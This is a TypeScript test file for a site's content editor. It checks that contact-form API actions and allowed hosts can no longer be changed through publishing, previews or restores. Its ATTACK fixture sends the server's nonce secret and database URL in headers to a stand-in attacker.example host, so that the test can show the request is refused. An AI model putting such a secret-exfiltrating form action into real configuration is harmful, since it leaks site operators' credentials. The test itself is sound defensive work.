import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { repositoryContent } from '../../../content/repository-content.ts';
import type { FormAction } from '../../../content/structs/form-actions.struct.ts';
import type { RenderedSiteFile, SiteRenderer } from '../../../server/site-render/render-site.ts';
import { CONTENT_ERROR, CONTENT_ROUTE } from '../../../src/validation/content-editor/content-editor.protocol.ts';
import { api, get, post } from '../console-access/console-access-fixture.ts';
import { addPerson, type TestPerson } from '../helpers/console-people.ts';
import { answerOf, postFeedback } from '../helpers/multipart.ts';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';
import { testDialect } from '../helpers/test-db.ts';
import { validContactFields } from '../helpers/test-forms.ts';

/*
 * Issue 40, part 1 (README.md, "Abuse paths and the limits that stop them"): the contact form's
 * API actions and allowedHosts change only through the repository and a deploy. Anyone who may
 * edit content (an owner, staff once allowed) used to be able to publish an action to a host of
 * their choice whose headers named `env:NONCE_SECRET`: the next submission put the server's
 * secret into the outbox and the outgoing request.
 */

const NONCE_SECRET = 'nonce-secret-of-the-server-0123456789abcdef';
const ATTACK: FormAction = {
  type: 'api_url_request',
  url: 'https://attacker.example/collect',
  method: 'POST',
  headers: [
    { name: 'Authorization', value: 'env:NONCE_SECRET' },
    { name: 'X-Db', value: 'env:DATABASE_URL' },
  ],
  fields: [{ param: 'email', field: 'your-email' }],
};

/** Pages enough for a generation: the subject here is what the server sends, not the HTML. */
const pagesRenderer: SiteRenderer = {
  async render(content): Promise<RenderedSiteFile[]> {
    return [
      { relative: 'index.html', body: `<!doctype html><title>${content.company.name}</title><h1>${content.hero.heading}</h1>` },
      { relative: '404.html', body: '<!doctype html><title>Not found</title><h1>Not found</h1>', status: 404 },
    ];
  },
};

describe(`the contact form's API actions and allowed hosts are the repository's only, on ${testDialect}`, () => {
  let test: TestApp;
  let owner: TestPerson;
  let staff: TestPerson;
  const saved = process.env.NONCE_SECRET;

  beforeAll(async () => {
    // What apiRequestsOf read before the fix: any variable of the server's environment.
    process.env.NONCE_SECRET = NONCE_SECRET;
    test = await createTestApp({ NONCE_SECRET, CONTENT_POLL_INTERVAL: 'off' }, { siteGenerations: { renderer: pagesRenderer } });
    await test.app.ready();
    owner = await addPerson(test.app, { email: 'owner@example.co.za', role: 'owner' });
    staff = await addPerson(test.app, { email: 'staff@example.co.za', role: 'staff' });
  });
  afterAll(async () => {
    await test.cleanup();
    if (saved === undefined) delete process.env.NONCE_SECRET;
    else process.env.NONCE_SECRET = saved;
  });
  beforeEach(async () => {
    await test.app.db.deleteFrom('content_revisions').execute();
    await test.app.db.updateTable('content_settings').set({ staff_may_edit: 1 }).execute();
  });
  afterEach(async () => {
    // Whatever the attempt did, no outbox row holds the secret, and no request went out to the attacker's host.
    const rows = await test.app.db.selectFrom('outbox').selectAll().execute();
    expect(JSON.stringify(rows)).not.toContain(NONCE_SECRET);
    expect(JSON.stringify(rows)).not.toContain('attacker.example');
  });

  const form = () => repositoryContent().contactForm;
  const publishForm = (document: unknown, cookie: string) =>
    post(test.app, api(CONTENT_ROUTE.publish, { name: 'contactForm' }), { baseRevision: 0, document, note: 'CRM' }, cookie);

  it('refuses an owner publishing an action to their own host with env:NONCE_SECRET, naming the fields; the next submission queues no secret', async () => {
    const attack = { ...form(), allowedHosts: ['attacker.example'], actions: [...(form().actions ?? []), ATTACK] };
    const response = await publishForm(attack, owner.cookie);
    const answer = answerOf(await postFeedback(test.app, form().id, validContactFields()));
    expect(answer.status).toBe('mail_sent');
    const queued = JSON.stringify(await test.app.db.selectFrom('outbox').selectAll().where('channel', '=', 'http').execute());
    expect(queued, 'the outbox holds the server\'s secret').not.toContain(NONCE_SECRET);
    expect(response.statusCode, response.body).toBe(403);
    const refusal = response.json() as { code: string; data: { problems: Array<{ path: string; message: string }> } };
    expect(refusal.code).toBe(CONTENT_ERROR.fieldNotEditable);
    expect(refusal.data.problems.map((problem) => problem.path)).toEqual(['actions[2]', 'allowedHosts']);
    expect(refusal.data.problems[0]?.message).toMatch(/repository/);
  });

  it('refuses staff adding an allowed host, or an API action to a host the repository allows, each at its field', async () => {
    const hosts = await publishForm({ ...form(), allowedHosts: ['attacker.example'] }, staff.cookie);
    expect(hosts.statusCode, hosts.body).toBe(403);
    expect(hosts.json()).toMatchObject({ code: CONTENT_ERROR.fieldNotEditable, data: { problems: [{ path: 'allowedHosts' }] } });
    const action = await publishForm({ ...form(), actions: [ATTACK, ...(form().actions ?? [])] }, staff.cookie);
    expect(action.statusCode, action.body).toBe(403);
    expect(action.json()).toMatchObject({ code: CONTENT_ERROR.fieldNotEditable, data: { problems: [{ path: 'actions[0]' }] } });
    const preview = await post(test.app, api(CONTENT_ROUTE.preview, { name: 'contactForm' }), { document: { ...form(), allowedHosts: ['attacker.example'] } }, staff.cookie);
    expect(preview.statusCode, preview.body).toBe(403);
    expect(preview.json()).toMatchObject({ code: CONTENT_ERROR.fieldNotEditable, data: { field: 'allowedHosts' } });
    // The rest of the form stays staff's to edit.
    const words = await publishForm({ ...form(), submitLabel: 'Send it' }, staff.cookie);
    expect(words.statusCode, words.body).toBe(200);
  });

  it("serves the repository's API actions and hosts whatever a stored revision holds (one published before the fix), and restores none", async () => {
    const stored = await test.app.db
      .insertInto('content_revisions')
      .values({ document: 'contactForm', number: 1, body: JSON.stringify({ ...form(), allowedHosts: ['attacker.example'], actions: [ATTACK, ...(form().actions ?? [])] }), note: 'before the fix', author_id: owner.id, author_name: owner.email, created_at: new Date().toISOString() })
      .returning('id')
      .executeTakeFirstOrThrow();
    await test.app.contentPublished(Number(stored.id));
    expect(answerOf(await postFeedback(test.app, form().id, validContactFields())).status).toBe('mail_sent');

    const live = await get(test.app, api(CONTENT_ROUTE.document, { name: 'contactForm' }), owner.cookie);
    expect(live.json()).toMatchObject({ revision: Number(stored.id) });
    expect(live.json().document).toEqual(form());
    const restored = await post(test.app, api(CONTENT_ROUTE.restore, { name: 'contactForm' }), { revision: Number(stored.id), baseRevision: Number(stored.id) }, owner.cookie);
    expect(restored.statusCode, restored.body).toBe(200);
    expect((await get(test.app, api(CONTENT_ROUTE.document, { name: 'contactForm' }), owner.cookie)).json().document).toEqual(form());
    // What the site serves is the repository's too.
    expect(test.app.liveContent.current.contactForm).toEqual(form());
  });
});
